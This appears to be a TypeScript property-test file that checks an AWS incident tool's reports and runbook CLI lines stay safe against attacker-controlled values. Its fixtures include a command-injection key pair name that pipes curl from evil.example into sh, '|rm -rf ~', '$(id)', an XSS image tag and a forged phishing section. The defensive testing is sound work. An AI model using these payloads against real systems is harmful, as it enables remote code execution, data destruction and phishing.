// Account data in the report sent to AWS and in the runbook's CLI lines is attacker-controlled
// (instance Name tags, key pair and user names, notice text). Property tests with generated
// hostile values: the report's Markdown structure is the same as with harmless values (no new
// heading, link, image, HTML or list comes from a value), and each value filled into a CLI line
// is a plain word for bash, PowerShell and cmd.exe alike, or is withheld (placeholder + reason).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
// @ts-expect-error markdown-it ships no types (installed with the packaging tools); used here only as a reference parser
import MarkdownIt from 'markdown-it';
import { incidentReport } from '../../src/core/incidents/report';
import { fillCli, fillCliChecked, parseRunbooks } from '../../src/core/incidents/runbooks';
import { isCliSafe, mdCode, mdText, shellQuote } from '../../src/core/incidents/escape';
import type { Incident } from '../../src/core/incidents/types';

const RUNBOOKS = parseRunbooks(readFileSync(path.join(__dirname, '..', '..', 'media', 'runbooks', 'incidents.json'), 'utf8'));
interface Token {
  type: string;
  tag: string;
  children: Token[] | null;
}
const md = new MarkdownIt({ html: true, linkify: true }) as { parse(s: string, env: object): Token[] };
md.parse('x', {});

/** Hostile strings: Markdown and HTML syntax, links, autolinks, line breaks, controls, shell metacharacters. */
const PIECES = ['\n', '\r\n', '\u2028', '## Actions taken', '# ', '- ', '1. ', '> ', '```', '`', '[click](https://evil.example/x)', '![i](http://e.co/a.png)', '<img src=x onerror=alert(1)>', '<script>', '</div>', 'https://evil.example/login', 'www.evil.com', 'user@evil.com', '<https://a.b>', '[ref]: http://e.co', '|', ' | --- | ', '**', '_', '~~', '&lt;', '&#x3C;', '\\', '\u001b[2J', '\u202e', '\u0000', '    ', '\t', '---', '===', "'", '"', ';', '$(id)', '`id`', '|rm -rf ~', '&&', '*', '?', '!', '{', '}', '#', 'é', '名'];
// Never empty: an absent value (no region, no label) rightly leaves its part of a line out.
const hostile = fc.oneof(
  { weight: 3, arbitrary: fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 8 }).map((a) => a.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...'abc []()<>!#`*_|:/.@\n\\-+1'.split('')), minLength: 1, maxLength: 30 }) },
);

function incidentWith(v: (slot: number) => string): Incident {
  return {
    id: `open-ingress:123456789012:us-east-1:${v(0)}`,
    type: 'open-ingress',
    severity: 'high',
    title: `sg-0abc (${v(1)}) is open to the internet on SSH (22)`,
    summary: v(2),
    source: 'audit',
    account: v(3),
    resources: [
      { kind: 'security-group', id: v(4), region: v(5), label: v(6) },
      { kind: 'instance', id: 'i-0123456789abcdef0', region: 'us-east-1', label: v(7) },
      { kind: 'key-pair', id: v(8), region: 'us-east-1' },
    ],
    facts: [
      [v(9), v(10)],
      ['Running instances using it', v(11)],
    ],
    status: 'contained',
    createdAt: v(12),
    updatedAt: '2026-11-20T10:00:00.000Z',
    steps: { 'Contain/revoke': { done: true, at: v(13), by: v(14) } },
    timeline: [
      { at: '2026-11-20T10:00:00.000Z', actor: v(15), kind: 'detected', text: v(16) },
      { at: v(17), actor: 'me', kind: 'action', text: `Revoke open ingress on ${v(18)}: done`, calls: [{ api: v(19), target: v(20), region: v(21), ok: true }] },
      { at: '2026-11-20T10:05:00.000Z', actor: 'me', kind: 'error', text: v(22), calls: [{ api: 'ec2:CreateTags', target: v(23), ok: false, error: v(24) }] },
    ],
  };
}

const IGNORED = new Set(['text', 'text_special', 'softbreak', 'inline']);
/** The token types of a document, blocks then inline children, without plain text. */
function shape(doc: string): string[] {
  const out: string[] = [];
  for (const tok of md.parse(doc, {})) {
    if (!IGNORED.has(tok.type)) out.push(`${tok.type}:${tok.tag}`);
    for (const c of tok.children ?? []) if (!IGNORED.has(c.type)) out.push(`  ${c.type}:${c.tag}`);
  }
  return out;
}

test('report: hostile account data never adds a heading, link, image, HTML or block to the Markdown (property)', () => {
  const baseline = shape(incidentReport(incidentWith(() => 'x'), RUNBOOKS['open-ingress'], 'me'));
  assert.ok(!baseline.some((s) => /link|image|html/.test(s)), baseline.join('\n'));
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 25, maxLength: 25 }), fc.string({ maxLength: 20 }), (values, by) => {
      const report = incidentReport(incidentWith((i) => values[i] as string), RUNBOOKS['open-ingress'], by);
      assert.deepEqual(shape(report), baseline, report);
      // eslint-disable-next-line no-control-regex -- looking for control characters
      assert.doesNotMatch(report, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\u202e]/, 'no control character');
    }),
    { seed: 42, numRuns: 300 },
  );
});

test('report: the forged "Actions taken" section and phishing link of the review stay text', () => {
  const name = 'web\n\n## Actions taken\n\n- 2026-11-20 · AWS Security · [Verify your account](https://aws-verify.example/login) www.aws-verify.example <img src=x>';
  const inc = incidentWith((i) => (i === 1 || i === 7 || i === 8 ? name : 'x'));
  const report = incidentReport(inc, RUNBOOKS['open-ingress'], 'me');
  assert.equal(report.match(/^## Actions taken$/gm)?.length, 1);
  const html = (md as unknown as { render(s: string): string }).render(report);
  assert.doesNotMatch(html, /<a |<img /);
  assert.match(html, /Verify your account/);
});

test('mdText and mdCode: values render back as exactly their text (property)', () => {
  const render = (s: string): string => (md as unknown as { renderInline(s: string): string }).renderInline(s);
  const unhtml = (s: string): string => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  fc.assert(
    fc.property(fc.string({ unit: fc.constantFrom(...'ab []()<>!#`*_|:/.@\\-+1&;~'.split('')), maxLength: 40 }), (s) => {
      const want = s.replace(/^\s+/, '');
      assert.equal(unhtml(render(mdText(s))), want, mdText(s));
      if (s.trim() && !/^[ `]|[ `]$/.test(s)) assert.equal(unhtml(render(mdCode(s))), `<code>${s}</code>`);
    }),
    { seed: 7, numRuns: 300 },
  );
});

/** What cmd.exe, PowerShell or a POSIX shell treats specially anywhere in a word, or at its start. */
const SHELL_SPECIAL = /[^A-Za-z0-9._:/+=@ -]/;

test('runbook CLI lines: a filled value is safe in bash, PowerShell and cmd.exe, else withheld with a reason (property)', () => {
  const cli = 'aws ec2 describe-instances --filters Name=key-name,Values={keypair} --region {region} --instance-ids {instance}';
  const name = fc.oneof(
    fc.string({ unit: fc.oneof(fc.constantFrom(...";|$&`'\"\\ \n\t*?[]{}()<>#~!=%^,@-.:/+\u2033\uff02\u00a0".split('')), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })), minLength: 1, maxLength: 24 }),
    fc.stringMatching(/^[A-Za-z0-9._:/+=@-]{1,20}$/),
  );
  fc.assert(
    fc.property(name, name, name, (keypair, region, instance) => {
      const { line, withheld } = fillCliChecked(cli, { resources: [{ kind: 'key-pair', id: keypair, region }, { kind: 'instance', id: instance, region }] });
      // Invariant: the line holds the template's own characters plus values that are plain
      // words for every shell. Take the template's words out; what is left is filled values.
      const filled = line.replace(/^aws ec2 describe-instances --filters Name=key-name,Values=(.*) --region (.*) --instance-ids (.*)$/s, '$1\u0001$2\u0001$3').split('\u0001');
      assert.equal(filled.length, 3, line);
      for (const [v, got, word] of [[keypair, filled[0], 'KEY_PAIR_NAME'], [region, filled[1], 'REGION'], [instance, filled[2], 'INSTANCE_ID']] as const) {
        if (isCliSafe(v)) assert.equal(got, v);
        else {
          assert.equal(got, word);
          assert.ok(withheld.some((w) => w.placeholder === word && w.value === v && w.reason.length > 10), `${word} withheld with a reason`);
        }
        assert.doesNotMatch(got as string, SHELL_SPECIAL);
        assert.match(got as string, /^[A-Za-z0-9]/, 'no value starts like an option, a splat or an expansion');
      }
    }),
    { seed: 3, numRuns: 400 },
  );
  // The runbooks' own lines, with a key pair named like the review's: nothing of it reaches the line.
  const evil = "relay'; curl https://evil.example/x | sh; echo '$(id)`id`&calc.exe&%PATH%";
  for (const rb of Object.values(RUNBOOKS))
    for (const p of rb.phases)
      for (const s of p.steps) {
        if (!s.cli) continue;
        const { line, withheld } = fillCliChecked(s.cli, { resources: [{ kind: 'key-pair', id: evil, region: 'us-east-1' }, { kind: 'user', id: 'a"b&c' }, { kind: 'instance', id: 'i-0abc;calc', region: 'us-east-1' }] });
        assert.ok(!line.includes('evil') && !line.includes('calc') && !line.includes('a"b'), line);
        if (s.cli.includes('{keypair}')) assert.ok(line.includes('KEY_PAIR_NAME') && withheld.some((w) => w.placeholder === 'KEY_PAIR_NAME'), s.cli);
      }
  // Ordinary values are filled in as they are.
  assert.equal(fillCli('aws iam update-access-key --user-name {user} --access-key-id {key}', { resources: [{ kind: 'access-key', id: 'AKIAIOSFODNN7EXAMPLE', user: 'deploy.bot-ci@corp' }] }), 'aws iam update-access-key --user-name deploy.bot-ci@corp --access-key-id AKIAIOSFODNN7EXAMPLE');
  assert.equal(shellQuote('i-0abc'), 'i-0abc');
  assert.throws(() => shellQuote('a\0b'));
});

test('mdCode shows a | as itself (no backslash the value does not have)', () => {
  const render = (s: string): string => (md as unknown as { renderInline(s: string): string }).renderInline(s);
  assert.equal(render(mdCode('a|b')), '<code>a|b</code>');
  assert.equal(mdCode('a|b'), '`a|b`');
});
